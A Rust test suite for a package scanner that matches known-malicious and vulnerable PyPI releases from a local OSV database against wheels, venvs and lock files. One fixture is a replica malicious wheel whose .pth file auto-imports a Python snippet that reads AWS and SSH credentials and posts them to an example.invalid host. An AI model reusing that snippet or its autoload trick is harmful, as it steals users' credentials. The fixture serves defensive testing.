//! Known-malicious and vulnerable releases (issue 3, items 3 and 4): a small OSV database built
//! here (a `MAL-` record for `elementary-data` 0.23.3 and a PYSEC-style range record), matched
//! against wheels, installed packages and pinned lists; JSON and SARIF carry the release; hostile
//! databases are bounded. No network.

use std::path::{Path, PathBuf};
use std::process::Command;

use airlock::osv::{Db, Limits, OsvError};
use airlock::scan::ScanReport;
use airlock::Severity;

#[path = "support/osvscan.rs"]
mod osvscan;
use osvscan::scan_with;

const MAL: &str = r#"{
  "id": "MAL-2025-0001",
  "summary": "Malicious code in elementary-data (PyPI)",
  "affected": [{"package": {"ecosystem": "PyPI", "name": "elementary-data"}, "versions": ["0.23.3"]}]
}"#;

const PYSEC: &str = r#"{
  "id": "PYSEC-2024-0001",
  "aliases": ["CVE-2024-00001"],
  "summary": "demo-lib loads pickles from untrusted paths",
  "affected": [{"package": {"ecosystem": "PyPI", "name": "Demo_Lib"},
    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.0"}, {"fixed": "1.2"}]}]}],
  "database_specific": {"severity": "HIGH"}
}"#;

const GHSA_OTHER_ECOSYSTEM: &str = r#"{
  "id": "GHSA-xxxx-yyyy-zzzz",
  "affected": [{"package": {"ecosystem": "npm", "name": "elementary-data"}, "versions": ["0.23.2"]}]
}"#;

fn db_dir(root: &Path) -> PathBuf {
    let d = root.join("osv");
    std::fs::create_dir_all(d.join("nested")).expect("mkdir");
    std::fs::write(d.join("MAL-2025-0001.json"), MAL).expect("write");
    std::fs::write(d.join("nested/PYSEC-2024-0001.json"), PYSEC).expect("write");
    std::fs::write(d.join("GHSA-xxxx-yyyy-zzzz.json"), GHSA_OTHER_ECOSYSTEM).expect("write");
    std::fs::write(d.join("broken.json"), "{not json").expect("write");
    d
}

/// The defanged module the replica's `.pth` imports: reads credential files and posts them to a
/// host under `example.invalid`.
const STEALER: &[u8] = b"import os, urllib.request\npaths = ['~/.aws/credentials', '~/.ssh/id_rsa']\ndata = ''.join(open(os.path.expanduser(p)).read() for p in paths)\nurllib.request.urlopen('https://collect.example.invalid/u', data=data.encode())\n";
const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: elementary-data\nVersion: 0.23.3\nSummary: defanged replica\n\nlong description\n";

/// A defanged replica of the elementary-data 0.23.3 wheel, with a correct RECORD.
fn replica_wheel() -> Vec<u8> {
    use base64::Engine;
    use sha2::Digest;
    use std::io::Write;
    let files: &[(&str, &[u8])] = &[
        ("elementary/__init__.py", b"__version__ = '0.23.3'\n"),
        ("elementary_init.py", STEALER),
        ("elementary.pth", b"import elementary_init\n"),
        ("elementary_data-0.23.3.dist-info/METADATA", METADATA),
        (
            "elementary_data-0.23.3.dist-info/WHEEL",
            b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        ),
    ];
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut record = String::new();
    for (name, data) in files {
        w.start_file(*name, opts).expect("start");
        w.write_all(data).expect("write");
        let h = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
        record.push_str(&format!("{name},sha256={h},{}\n", data.len()));
    }
    record.push_str("elementary_data-0.23.3.dist-info/RECORD,,\n");
    w.start_file("elementary_data-0.23.3.dist-info/RECORD", opts)
        .expect("start");
    w.write_all(record.as_bytes()).expect("write");
    w.finish().expect("finish").into_inner()
}

/// (rule, severity, package name, package version, line) of the advisory findings.
fn hits(report: &ScanReport) -> Vec<(&'static str, Severity, String, String, Option<u64>)> {
    report
        .findings()
        .filter(|f| f.rule.id.starts_with("known-"))
        .map(|f| {
            let p = f
                .package
                .clone()
                .expect("advisory findings carry their release");
            let line = match f.location.span {
                Some(airlock::finding::Span::Line { line }) => Some(line),
                _ => None,
            };
            (f.rule.id, f.severity, p.name, p.version, line)
        })
        .collect()
}

#[test]
fn the_database_loads_pypi_records_and_skips_the_rest() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    assert_eq!(db.records, 3);
    assert_eq!(db.skipped, 1);
    assert_eq!(db.packages(), 2);
    assert_eq!(
        db.matches("Elementary_Data", "0.23.3")[0].id,
        "MAL-2025-0001"
    );
    assert!(db.matches("elementary-data", "0.23.2").is_empty());
    assert!(db.matches("demo.lib", "1.0").len() == 1);
    assert!(db.matches("demo-lib", "1.1.9").len() == 1);
    assert!(db.matches("demo-lib", "1.2.0").is_empty());
    assert!(db.matches("demo-lib", "0.9").is_empty());
    assert_eq!(db.matches("demo-lib", "1.1")[0].severity, Severity::High);
}

#[test]
fn the_database_loads_from_a_zip() {
    use std::io::Write;
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("all.zip");
    let mut w = zip::ZipWriter::new(std::fs::File::create(&p).expect("create"));
    let opts = zip::write::SimpleFileOptions::default();
    for (n, t) in [("MAL-2025-0001.json", MAL), ("PYSEC-2024-0001.json", PYSEC)] {
        w.start_file(n, opts).expect("start");
        w.write_all(t.as_bytes()).expect("write");
    }
    w.finish().expect("finish");
    let db = Db::load(&p).expect("load");
    assert_eq!(db.records, 2);
    assert_eq!(db.matches("elementary-data", "0.23.3").len(), 1);
}

#[test]
fn replica_wheel_is_critical_and_matched_by_its_metadata() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let whl = dir.path().join("elementary_data-0.23.3-py3-none-any.whl");
    std::fs::write(&whl, replica_wheel()).expect("write");
    let report = scan_with(&whl, &db);
    let file = &report.files[0];
    assert_eq!(file.format, airlock::Format::Wheel);
    assert_eq!(file.worst(), Some(Severity::Critical));
    assert_eq!(
        hits(&report),
        vec![(
            "known-malicious-release",
            Severity::Critical,
            "elementary-data".into(),
            "0.23.3".into(),
            None
        )]
    );
    // The .pth rules fire too, and every finding inside the wheel carries its release.
    assert!(report
        .findings()
        .any(|f| f.rule.id == "pth-executable-line"));
    assert!(report.findings().all(|f| f
        .package
        .as_ref()
        .is_some_and(|p| p.name == "elementary-data")));
}

#[test]
fn replica_installed_in_a_venv_is_critical() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let sp = dir.path().join("venv/lib/python3.12/site-packages");
    let info = sp.join("elementary_data-0.23.3.dist-info");
    std::fs::create_dir_all(&info).expect("mkdir");
    std::fs::write(info.join("METADATA"), METADATA).expect("write");
    std::fs::write(sp.join("elementary.pth"), "import elementary_init\n").expect("write");
    std::fs::write(sp.join("elementary_init.py"), STEALER).expect("write");
    let report = scan_with(&dir.path().join("venv"), &db);
    let h = hits(&report);
    assert_eq!(h.len(), 1, "{h:?}");
    assert_eq!(h[0].0, "known-malicious-release");
    assert_eq!(h[0].1, Severity::Critical);
    let meta = report
        .files
        .iter()
        .find(|f| f.path.ends_with("METADATA"))
        .expect("METADATA scanned");
    assert_eq!(meta.format, airlock::Format::PackageMetadata);
    assert_eq!(meta.verdict, airlock::Verdict::Malicious);
}

/// distutils installs a package's metadata as one file, `<name>-<version>-py3.x.egg-info`
/// (tester t14 e01): it names the installed release as a `.dist-info/METADATA` does.
#[test]
fn a_legacy_egg_info_file_names_the_installed_release() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let sp = dir.path().join("venv/lib/python3.11/site-packages");
    std::fs::create_dir_all(&sp).expect("mkdir");
    std::fs::write(
        sp.join("elementary_data-0.23.3-py3.11.egg-info"),
        "Metadata-Version: 1.1\nName: elementary-data\nVersion: 0.23.3\nSummary: x\n",
    )
    .expect("write");
    std::fs::write(sp.join("elementary.py"), "X = 1\n").expect("write");
    let h = hits(&scan_with(&dir.path().join("venv"), &db));
    assert_eq!(h.len(), 1, "{h:?}");
    assert_eq!(
        (h[0].0, h[0].1, h[0].3.as_str()),
        ("known-malicious-release", Severity::Critical, "0.23.3")
    );
}

#[test]
fn pins_in_requirements_and_lock_files_are_matched() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let cases: &[(&str, &str)] = &[
        (
            "requirements.txt",
            "# pinned by pip-compile\n--index-url https://pypi.org/simple\nrequests==2.32.3 \\\n    --hash=sha256:00\nelementary_data==0.23.3 ; python_version >= \"3.9\" \\\n    --hash=sha256:11\ndemo-lib==1.1.0  # via app\nother>=1.0\n",
        ),
        (
            "uv.lock",
            "version = 1\nrequires-python = \">=3.9\"\n\n[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\nsource = { registry = \"https://pypi.org/simple\" }\n\n[[package]]\nname = \"elementary-data\"\nversion = \"0.23.3\"\nsource = { registry = \"https://pypi.org/simple\" }\n\n[[package]]\nname = \"demo-lib\"\nversion = \"1.1.0\"\n",
        ),
        (
            "pylock.toml",
            "lock-version = \"1.0\"\ncreated-by = \"test\"\n\n[[packages]]\nname = \"requests\"\nversion = \"2.32.3\"\n\n[[packages]]\nname = \"elementary-data\"\nversion = \"0.23.3\"\n\n[[packages]]\nname = \"demo-lib\"\nversion = \"1.1.0\"\n",
        ),
        (
            "poetry.lock",
            "[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\ndescription = \"HTTP\"\n\n[[package]]\nname = \"elementary-data\"\nversion = \"0.23.3\"\ndescription = \"x\"\n\n[[package]]\nname = \"demo-lib\"\nversion = \"1.1.0\"\ndescription = \"y\"\n\n[metadata]\nlock-version = \"2.0\"\n",
        ),
        (
            "freeze.txt",
            "requests==2.32.3\nelementary-data==0.23.3\ndemo_lib==1.1.0\n",
        ),
        (
            "pyproject.toml",
            "[project]\nname = \"app\"\nversion = \"1.0\"\ndependencies = [\n  \"requests>=2\",\n  \"elementary-data==0.23.3\",\n]\n\n[project.optional-dependencies]\ndemo = [\"demo-lib==1.1.0\"]\n",
        ),
        (
            "pdm.lock",
            "[metadata]\ngroups = [\"default\"]\nlock_version = \"4.5.0\"\n\n[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\n\n[[package]]\nname = \"elementary-data\"\nversion = \"0.23.3\"\n\n[[package]]\nname = \"demo-lib\"\nversion = \"1.1.0\"\n",
        ),
        (
            "Pipfile.lock",
            "{\n    \"_meta\": {\"hash\": {\"sha256\": \"00\"}},\n    \"default\": {\n        \"requests\": {\"version\": \"==2.32.3\"},\n        \"elementary-data\": {\"hashes\": [], \"version\": \"==0.23.3\"},\n        \"editable-thing\": {\"editable\": true, \"path\": \".\"}\n    },\n    \"develop\": {\n        \"demo-lib\": {\"version\": \"==1.1.0\"}\n    }\n}\n",
        ),
        // A conda environment's pip list (an MLflow model's `conda.yaml`), and MLflow's
        // `python_env.yaml`, whose lists pip installs.
        (
            "conda.yaml",
            "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- requests=2.0\n- pip<=24.0\n- pip:\n  - requests==2.32.3\n  - elementary-data==0.23.3\n  - demo-lib==1.1.0\nname: mlflow-env\n",
        ),
        (
            "python_env.yaml",
            "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- demo-lib==1.1.0\ndependencies:\n- -r requirements.txt\n- elementary-data==0.23.3\n",
        ),
        // setup.cfg's `install_requires` and `extras_require` (tester t14 u06).
        (
            "setup.cfg",
            "[metadata]\nname = app\n\n[options]\ninstall_requires =\n    requests>=2\n    elementary-data==0.23.3\n\n[options.extras_require]\ndemo =\n    demo-lib==1.1.0\n",
        ),
        // PEP 751 entries installed from a URL carry no `version`: the wheel's file name says it.
        (
            "pylock.toml",
            "lock-version = \"1.0\"\n\n[[packages]]\nname = \"elementary-data\"\nwheels = [{ url = \"https://files.example.invalid/elementary_data-0.23.3-py3-none-any.whl\" }]\n\n[[packages]]\nname = \"demo-lib\"\nsdist = { name = \"demo_lib-1.1.0.tar.gz\", url = \"https://files.example.invalid/x\" }\n\n[[packages]]\nname = \"requests\"\nwheels = [{ url = \"https://files.example.invalid/other-9.9-py3-none-any.whl\" }]\n",
        ),
    ];
    for (i, (name, text)) in cases.iter().enumerate() {
        let sub = dir.path().join(format!("{i}"));
        std::fs::create_dir_all(&sub).expect("mkdir");
        let p = sub.join(name);
        std::fs::write(&p, text).expect("write");
        let report = scan_with(&p, &db);
        let mut h = hits(&report);
        h.sort();
        let (mal, vuln) = (&h[0], &h[1]);
        assert_eq!(h.len(), 2, "{name}: {h:?}");
        assert_eq!(
            (mal.0, mal.1, mal.3.as_str()),
            ("known-malicious-release", Severity::Critical, "0.23.3"),
            "{name}"
        );
        assert_eq!(
            (vuln.0, vuln.1, vuln.3.as_str()),
            ("known-vulnerable-release", Severity::High, "1.1.0"),
            "{name}"
        );
        assert!(mal.4.is_some_and(|l| l > 0), "{name}: a line");
        assert_eq!(
            report.files[0].verdict,
            airlock::Verdict::Malicious,
            "{name}"
        );
    }
}

#[test]
fn releases_outside_the_records_are_not_reported() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let p = dir.path().join("requirements-dev.txt");
    std::fs::write(
        &p,
        "elementary-data==0.23.2\ndemo-lib==1.2.0\ndemo-lib>=1.2\nelementary-data\n",
    )
    .expect("write");
    let report = scan_with(&p, &db);
    assert!(hits(&report).is_empty());
    assert_eq!(report.files[0].format, airlock::Format::Requirements);
}

#[test]
fn prefix_pins_match_the_releases_they_admit() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let p = dir.path().join("requirements.txt");
    // elementary-data 0.23.* admits the malicious 0.23.3 (and others): one grade lower than an
    // exact pin. demo-lib 1.1.* lies wholly inside [1.0, 1.2): as severe as an exact pin.
    // demo-lib 1.2.* and elementary-data 0.22.* admit no affected release.
    std::fs::write(
        &p,
        "elementary-data==0.23.*\ndemo-lib==1.1.*\ndemo-lib==1.2.*\nelementary-data==0.22.*\n",
    )
    .expect("write");
    let report = scan_with(&p, &db);
    let mut h = hits(&report);
    h.sort();
    assert_eq!(
        h,
        vec![
            (
                "known-malicious-release",
                Severity::High,
                "elementary-data".to_string(),
                "0.23.*".to_string(),
                Some(1)
            ),
            (
                "known-vulnerable-release",
                Severity::High,
                "demo-lib".to_string(),
                "1.1.*".to_string(),
                Some(2)
            ),
        ]
    );
    // A prefix that only overlaps the range's start: 1.* admits 1.0 to 1.1.x (affected) and
    // 1.2 onwards (fixed), one grade lower than the record's HIGH.
    std::fs::write(&p, "demo-lib==1.*\n").expect("write");
    let h = hits(&scan_with(&p, &db));
    assert_eq!(
        h.iter().map(|x| (x.0, x.1)).collect::<Vec<_>>(),
        vec![("known-vulnerable-release", Severity::Medium)]
    );
}

#[test]
fn a_huge_record_is_a_clear_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = db_dir(dir.path());
    // 100 MB, sparse: the size is judged before a byte is read.
    let f = std::fs::File::create(d.join("huge.json")).expect("create");
    f.set_len(100 << 20).expect("set_len");
    let start = std::time::Instant::now();
    let err = Db::load(&d).expect_err("over the record bound");
    assert!(matches!(err, OsvError::Limit { .. }), "{err}");
    assert!(err.to_string().contains("bytes per record"), "{err}");
    assert!(start.elapsed().as_secs() < 5);
}

#[test]
fn a_hundred_thousand_files_are_bounded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path().join("many");
    std::fs::create_dir(&d).expect("mkdir");
    for i in 0..100_000 {
        std::fs::write(d.join(format!("r{i}.json")), "{}").expect("write");
    }
    let start = std::time::Instant::now();
    let err = Db::load_with(
        &d,
        Limits {
            max_files: 50_000,
            ..Limits::default()
        },
    )
    .expect_err("over the file bound");
    assert!(err.to_string().contains("more than 50000 files"), "{err}");
    // Within the default bounds it loads (every record is invalid, so skipped), in bounded time.
    let db = Db::load(&d).expect("load");
    assert_eq!(db.skipped, 100_000);
    assert!(start.elapsed().as_secs() < 60);
}

fn airlock(args: &[&str], env_cache: &Path) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(args)
        // Never the user's cache.
        .env("XDG_CACHE_HOME", env_cache)
        .output()
        .expect("run airlock");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn cli_db_flag_json_and_sarif_carry_the_release() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = db_dir(dir.path());
    let reqs = dir.path().join("requirements.txt");
    std::fs::write(&reqs, "elementary-data==0.23.3\n").expect("write");
    let db_s = db.to_str().expect("utf-8");
    let r_s = reqs.to_str().expect("utf-8");
    let (code, out, _) = airlock(&["scan", "--db", db_s, "--format", "json", r_s], dir.path());
    assert_eq!(code, 1);
    let doc: serde_json::Value = serde_json::from_str(&out).expect("json");
    let f = &doc["files"][0]["findings"][0];
    assert_eq!(f["rule"], "known-malicious-release");
    assert_eq!(f["package"]["name"], "elementary-data");
    assert_eq!(f["package"]["version"], "0.23.3");
    assert_eq!(doc["files"][0]["format"], "requirements");
    let (code, out, _) = airlock(
        &["scan", "--db", db_s, "--format", "sarif", r_s],
        dir.path(),
    );
    assert_eq!(code, 1);
    let doc: serde_json::Value = serde_json::from_str(&out).expect("sarif");
    let res = &doc["runs"][0]["results"][0];
    assert_eq!(res["ruleId"], "known-malicious-release");
    assert_eq!(res["properties"]["package"]["name"], "elementary-data");
    // Without a database (the empty cache) the pin is not judged.
    let (code, _, _) = airlock(&["scan", r_s], dir.path());
    assert_eq!(code, 0);
    // The default cache is used when present.
    let cache = dir.path().join("airlock");
    std::fs::create_dir_all(&cache).expect("mkdir");
    copy_dir(&db, &cache.join("osv"));
    let (code, _, _) = airlock(&["scan", r_s], dir.path());
    assert_eq!(code, 1);
    // A database that cannot be read is a usage error.
    let (code, _, err) = airlock(&["scan", "--db", "/nonexistent/osv", r_s], dir.path());
    assert_eq!(code, 2);
    assert!(err.contains("/nonexistent/osv"), "{err}");
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for e in std::fs::read_dir(from).expect("read_dir").flatten() {
        let p = e.path();
        if p.is_dir() {
            copy_dir(&p, &to.join(e.file_name()));
        } else {
            std::fs::copy(&p, to.join(e.file_name())).expect("copy");
        }
    }
}

/// Without a database, releases and pins are not checked, and the run says so on standard error
/// (with `--quiet` too: README says warnings still go there, tester t14); with one, no such
/// note.
#[test]
fn a_scan_without_a_database_says_what_it_did_not_check() {
    let dir = tempfile::tempdir().expect("tempdir");
    let reqs = dir.path().join("requirements.txt");
    std::fs::write(&reqs, "elementary-data==0.23.3\nrequests==2.32.3\n").expect("write");
    let empty_cache = dir.path().join("cache");
    let r = reqs.to_str().expect("utf-8 path");
    let (code, _, err) = airlock(&["scan", r], &empty_cache);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("2 Python releases and pins were not checked"),
        "{err}"
    );
    let (_, _, err) = airlock(&["scan", "--quiet", r], &empty_cache);
    assert!(err.contains("were not checked"), "{err}");
    let db = db_dir(dir.path());
    let (code, _, err) = airlock(
        &["scan", "--db", db.to_str().expect("utf-8"), r],
        &empty_cache,
    );
    assert_eq!(code, 1, "{err}");
    assert!(!err.contains("not checked"), "{err}");
    std::fs::write(&reqs, "requests==2.32.3\n").expect("write");
    let (_, _, err) = airlock(&["scan", r], &empty_cache);
    assert!(
        err.contains("1 Python release or pin was not checked"),
        "{err}"
    );
}

/// An empty cache folder (what a failed `airlock db update` used to leave) is no database: the
/// scan still says that releases were not checked (tester t12).
#[test]
fn an_empty_cache_folder_is_no_database() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(dir.path().join("airlock").join("osv")).expect("mkdir");
    let reqs = dir.path().join("requirements.txt");
    std::fs::write(&reqs, "elementary-data==0.23.3\n").expect("write");
    let (_, _, err) = airlock(&["scan", reqs.to_str().expect("utf-8")], dir.path());
    assert!(err.contains("no OSV database"), "{err}");
}

/// Requirements that are no exact pin are matched by the releases they admit (tester t14): a
/// range or compatible release that admits the malicious release is high (it may install it),
/// a parenthesised or direct-reference pin is exact (critical), a package malicious in every
/// release (`introduced: 0`) is critical whatever the requirement says, even bare; a bare name
/// of a package with one bad release, and a range past it, are not reported.
#[test]
fn ranges_and_bare_names_match_the_releases_they_admit() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = db_dir(dir.path());
    std::fs::write(
        d.join("MAL-2025-0002.json"),
        r#"{"id": "MAL-2025-0002", "summary": "typosquat",
            "affected": [{"package": {"ecosystem": "PyPI", "name": "torch-utils-ext"},
              "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}]}"#,
    )
    .expect("write");
    let db = Db::load(&d).expect("load");
    let p = dir.path().join("requirements.txt");
    let cases: &[(&str, Option<Severity>)] = &[
        ("elementary-data>=0.23.3,<0.23.4", Some(Severity::High)),
        ("elementary-data~=0.23.3", Some(Severity::High)),
        ("elementary-data (==0.23.3)", Some(Severity::Critical)),
        (
            "elementary-data @ https://files.example.invalid/elementary_data-0.23.3-py3-none-any.whl",
            Some(Severity::Critical),
        ),
        ("torch_utils_ext", Some(Severity::Critical)),
        ("Torch.Utils.Ext>=0.1", Some(Severity::Critical)),
        ("elementary-data", None),
        ("elementary-data>=0.24", None),
        ("elementary-data!=0.23.3", None),
        ("elementary-data>=0.23,!=0.23.3,<0.24", None),
    ];
    let mut wrong = Vec::new();
    for (line, want) in cases {
        std::fs::write(&p, format!("{line}\n")).expect("write");
        let got = hits(&scan_with(&p, &db)).iter().map(|h| h.1).max();
        if got != *want {
            wrong.push(format!("{line}: want {want:?}, got {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A requirements file's includes (`-r deps/base.lst`, `--constraint=c.in`, nested, in a
/// cycle) are followed as pip follows them: their pins are matched once, at their own file and
/// line; an included file the scan reads as a list itself is not matched twice.
#[test]
fn included_requirement_files_are_followed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = Db::load(&db_dir(dir.path())).expect("load");
    let root = dir.path().join("proj");
    std::fs::create_dir_all(root.join("deps")).expect("mkdir");
    std::fs::write(
        root.join("requirements.txt"),
        "requests==2.32.3\n-r deps/base.lst\n--constraint=c.in\n-r requirements-dev.txt\n",
    )
    .expect("write");
    std::fs::write(
        root.join("deps/base.lst"),
        "# base\nelementary-data==0.23.3\n-r ../loop.txt\n",
    )
    .expect("write");
    // A cycle back to the first file ends.
    std::fs::write(root.join("loop.txt"), "-r requirements.txt\n").expect("write");
    std::fs::write(root.join("c.in"), "demo-lib==1.1.0\n").expect("write");
    // Read as a list by the scan itself: its pin is reported once, on its own file.
    std::fs::write(root.join("requirements-dev.txt"), "demo-lib==1.1.0\n").expect("write");
    let report = scan_with(&root.join("requirements.txt"), &db);
    let mut h = hits(&report);
    h.sort();
    assert_eq!(
        h.iter()
            .map(|x| (x.0, x.3.as_str(), x.4))
            .collect::<Vec<_>>(),
        vec![
            ("known-malicious-release", "0.23.3", Some(2)),
            // c.in, and requirements-dev.txt (not scanned on its own here).
            ("known-vulnerable-release", "1.1.0", Some(1)),
            ("known-vulnerable-release", "1.1.0", Some(1)),
        ],
        "{h:?}"
    );
    let report = scan_with(&root, &db);
    let n = hits(&report)
        .iter()
        .filter(|x| x.0 == "known-vulnerable-release")
        .count();
    // c.in through requirements.txt, and requirements-dev.txt on its own (not twice).
    assert_eq!(n, 2);
}
